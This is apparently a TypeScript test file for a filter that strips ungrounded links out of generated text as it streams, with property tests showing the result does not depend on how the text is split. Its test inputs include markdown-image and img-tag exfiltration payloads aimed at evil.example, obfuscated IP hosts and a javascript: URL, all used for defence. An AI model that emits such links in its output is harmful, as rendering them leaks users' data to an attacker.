import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { filterLinks } from '../../../../src/generate/grounded/links.ts'

const SOURCE = 'See https://docs.example.org/a?b=1 and [the guide](guide/start.md).'

function filtered(pieces: readonly string[], sources = [SOURCE]) {
  const filter = filterLinks(sources)
  const text = pieces.map((piece) => filter.push(piece)).join('') + filter.flush()
  return { text, leftOut: filter.leftOut() }
}

describe('links in the text of an engine', () => {
  it.each([
    ['![x](https://evil.example/?q=secret)', '[x](link left out)'],
    ['![alt text](//evil.example/p.png) then', '[alt text](link left out) then'],
    ['<img src="//192.0.2.7/x?q=1">', '<img src="link left out">'],
    ['<img src="//3221225991/x">', '<img src="link left out">'],
    ['<img src="//[2001:db8::7]/x">', '<img src="link left out">'],
    ['go to https://evil.example/?q=secret.', 'go to link left out.'],
    ['<img src="https://evil.example/x">', '<img src="link left out">'],
    ['[click](javascript:alert(1))', '[click](link left out(1))'],
    ['[a]: https://evil.example', '[a]: link left out'],
    ['[p](https&#58;//evil.example/x)', '[p](link left out)'],
    ['HTTPS://EVIL.EXAMPLE', 'link left out'],
    ['![px](data:image/png;base64,AAAA)', '[px](link left out)'],
    ['смотри ![к](https://evil.example/картинка.png)', 'смотри [к](link left out)'],
  ])('%s', (said, shown) => {
    expect(filtered([said]).text).toBe(shown)
    expect(filtered([said]).leftOut).toBeGreaterThan(0)
  })

  it.each([
    'Read https://docs.example.org/a?b=1.',
    'Read [the guide](guide/start.md) [1].',
    'Blue![1] It is 12:30, and/or 5 // 2; see args[0](x) and `a: b`.',
    'Отношение 1:2 — да!',
  ])('stays: %s', (said) => {
    expect(filtered([said])).toEqual({ text: said, leftOut: 0 })
  })

  it('does not depend on how the text was cut', () => {
    const said =
      'A ![x](https://evil.example/?q=1) b [g](guide/start.md) https://docs.example.org/a?b=1 end![1]'
    const whole = filtered([said])
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: said.length - 1 }), { maxLength: 12 }), (cuts) => {
        const at = [0, ...cuts.toSorted((a, b) => a - b), said.length]
        expect(filtered(at.slice(1).map((end, i) => said.slice(at[i], end)))).toEqual(whole)
      }),
      { numRuns: 200 },
    )
  })

  it('does not hold back plain words', () => {
    expect(filterLinks([]).push('Slowly')).toBe('Slowly')
  })
})
